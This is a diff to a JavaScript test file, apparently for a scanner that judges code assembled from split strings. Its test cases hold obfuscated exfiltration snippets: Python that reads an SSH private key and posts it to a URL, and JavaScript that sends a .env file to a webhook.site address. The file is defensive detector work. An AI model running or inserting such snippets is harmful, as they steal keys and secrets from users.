@@ -63,7 +63,7 @@ it('tells what a change brings, wherever in the file it stands', async () => {
 });
 
 it.each([
-  ['a.py', "n = 1\na = open(os.path.join(home, '.' + 'ssh', 'id_' + 'rsa'))\nrequests.post(url, data=a)\n", '.ssh', 2],
+  ['a.py', "n = 1\na = open(os.path.join(home, chr(46) + 'ssh', 'id'))\nrequests.post(url, data=a)\n", '.ssh', 2],
   ['a.js', 'f(["htt", "ps://webhook.site/1"].join(""), fs.readFileSync(".env"));\n', 'https://', 1],
 ])(
   'judges what is put together in %s as if it were written in one piece, in its own line',
